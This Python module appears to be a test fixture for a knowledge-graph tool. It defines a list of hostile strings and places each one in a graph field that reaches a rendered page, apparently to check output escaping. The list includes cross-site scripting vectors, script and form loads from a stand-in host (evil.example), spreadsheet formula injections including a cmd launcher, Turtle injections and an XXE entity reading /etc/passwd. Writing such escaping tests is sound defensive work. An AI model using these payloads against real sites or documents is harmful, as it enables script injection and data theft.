"""Texts that try to be more than text, and graphs that carry one of them in each field that reaches a page."""

from __future__ import annotations

from typing import TYPE_CHECKING

from goldgraph import BASE
from innograph.model import Concept, Document, Entity, Evidence, KnowledgeGraph, Span, Statement

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PAYLOADS: dict[str, str] = {
    # elements that run as they arrive
    "script": "<script>window.hacked=1</script>",
    "end-of-script": "</script><script>window.hacked=1</script>",
    "end-of-script-spaced": "</script \t\n><script>window.hacked=1</script>",
    "script-in-capitals": "</SCRIPT><ScRiPt>window.hacked=1</sCrIpT>",
    "script-cut-in-two": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "script-from-elsewhere": '<script src="https://evil.example/x.js"></script>',
    "module": '<script type="module">window.hacked=1</script>',
    "image": '<img src=x onerror="window.hacked=1">',
    "image-without-spaces": "<img/src=x/onerror=window.hacked=1>",
    "image-of-elsewhere": '<img src="https://evil.example/pixel.gif">',
    "svg": "<svg onload=window.hacked=1>",
    "svg-animated": '<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hacked=1>#x">',
    "foreign-object": "<svg><foreignObject><body onload=window.hacked=1></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "frame": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "details": "<details open ontoggle=window.hacked=1>",
    "video": "<video><source onerror=window.hacked=1>",
    "focus": "<input autofocus onfocus=window.hacked=1>",
    "form": '<form action="https://evil.example/"><button>Send</button></form>',
    # what changes the page around it
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "style-address": "background:url(https://evil.example/x.png)",
    "clobber": '<a id="data"></a><form name="innograph"></form>',
    # ends of what it stands in
    "comment": "<!--<script>",
    "end-of-comment": "--><script>window.hacked=1</script><!--",
    "cdata": "]]><script>window.hacked=1</script><![CDATA[",
    "attribute": '" onmouseover="window.hacked=1" x=\'',
    "attribute-single": "' onfocus='window.hacked=1' autofocus='",
    "end-of-title": "</title></textarea></style></noscript><script>window.hacked=1</script>",
    "json": '"},"nodes":[],"x":{"y":"',
    "code": "\"';`${window.hacked=1}\\",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "prototype": "__proto__",
    "constructor": "constructor",
    # addresses that are programmes
    "javascript": "javascript:window.hacked=1",
    "javascript-hidden": "\x01java\tscript:window.hacked=1",
    "data-address": "data:text/html,<script>window.hacked=1</script>",
    "address-with-attribute": 'https://evil.example/" onmouseover="window.hacked=1',
    # what breaks tables, Turtle and drawings
    "formula": '=HYPERLINK("https://evil.example/","click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-full-width": "＝1+1",
    "formula-guarded": "'=1+1",
    "separators": 'a;b,c\t"d"\r\ne',
    "turtle": '" . <https://evil.example/s> <https://evil.example/p> "o',
    "turtle-long": '""" . <https://evil.example/s> <https://evil.example/p> """',
    "turtle-escape": '\\" . <https://evil.example/s> a <https://evil.example/c> . #',
    "iri": "https://evil.example/> <https://evil.example/p> <https://evil.example/o",
    "entity": "&lt;script&gt;&#60;b&#62;&amp;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    # characters
    "right-to-left": "\u202eevil\u202c شركة הייטק \u2067x\u2069",
    "zero-width": "zero\u200bwidth\u2028line\u2029end\ufeff",
    "control": "\x00\x07\x1b[31mcontrol\x7f\x85",
    "emoji": "👩\u200d🔬 emoji 🚀 🏴\U000e0067\U000e007f",
    "surrogate": "lone \ud800 surrogate \udfff",
    "not-a-character": "\ufffe\uffff\U0001ffff",
    "combining": "Z\u0351\u036b\u0343\u036aa\u0310\u0301l\u0489g\u0338o" * 12,
    "long": "long " * 2000,
    "long-word": "W" * 10_000,
    "blank": " \n\t ",
}
"""What hostile texts are named and are."""


def _plain(number: int) -> str:
    return f"Thing {number}"


def field_graph(field: str) -> KnowledgeGraph:
    """A graph with each of the PAYLOADS in one field of a thing, a fact or a document of its own."""
    put = _FIELDS[field]
    mission = Entity(f"{BASE}event/mission", "Mission", "The mission", ("The mission",))
    entities, facts, documents = [mission], [], []
    for number, payload in enumerate(PAYLOADS.values()):
        thing, fact, document, more = put(_Row(number, mission), payload)
        entities += [thing, *more]
        facts += fact
        documents.append(document)
    return KnowledgeGraph(tuple(entities), tuple(facts), tuple(documents), (), {documents[0].id: mission.iri})


class _Row:
    """What is plain about a row: a company that took part in a mission, as a text says."""

    def __init__(self, number: int, mission: Entity) -> None:
        self.number, self.mission = number, mission
        self.label = f"Thing {number}"
        self.iri = f"{BASE}organisation/thing-{number}"
        self.labels: tuple[str, ...] = ()
        self.identifiers: tuple[str, ...] = ()
        self.role, self.method = "", "frame"
        self.name = f"d{number}"
        self.text = f"Thing {number} took part in the mission."
        self.title, self.publisher, self.url = f"Report {number}", "", ""
        self.region = ""

    def parts(self) -> tuple[Entity, list[Statement[Entity]], Document, list[Entity]]:
        thing = Entity(self.iri, "Company", self.label, (*self.labels, self.label), self.identifiers)
        document = Document(
            self.name, self.text, "en", self.title, f"{self.name}.txt", url=self.url, publisher=self.publisher
        )
        piece = (Evidence(document.id, Span(0, len(self.text)), self.text, self.method, 0.9),)
        facts = [
            Statement(thing, "participatedIn", self.mission, self.role, piece),
            Statement(thing, "hasSector", Concept("sector", "water"), "", piece),
        ]
        more = []
        if self.region:
            place = Entity(f"{BASE}place/region-{self.number}", "Region", self.region, (self.region,))
            more = [place]
            facts.append(Statement(thing, "locatedIn", place, "", piece))
        return thing, facts, document, more


_Parts = tuple[Entity, list[Statement[Entity]], Document, list[Entity]]


def _setting(name: str, write: Callable[[str], object] = str) -> Callable[[_Row, str], _Parts]:
    def put(row: _Row, payload: str) -> _Parts:
        setattr(row, name, write(payload))
        return row.parts()

    return put


_FIELDS: dict[str, Callable[[_Row, str], _Parts]] = {
    "label": _setting("label"),
    "other names": _setting("labels", lambda payload: (payload,)),
    "iri": _setting("iri", lambda payload: f"{BASE}organisation/{payload}"),
    "identifiers": _setting("identifiers", lambda payload: (payload, f"https://elsewhere.example/{payload}")),
    "role": _setting("role"),
    "method": _setting("method"),
    "quote": _setting("text"),
    "title": _setting("title"),
    "publisher": _setting("publisher"),
    "url": _setting("url"),
    "document": _setting("name"),
    "region": _setting("region"),
}
FIELDS = tuple(_FIELDS)
"""The fields that reach a page."""


def rows() -> Iterator[tuple[int, str]]:
    """The payloads with the numbers that `field_graph` gives them."""
    yield from enumerate(PAYLOADS.values())
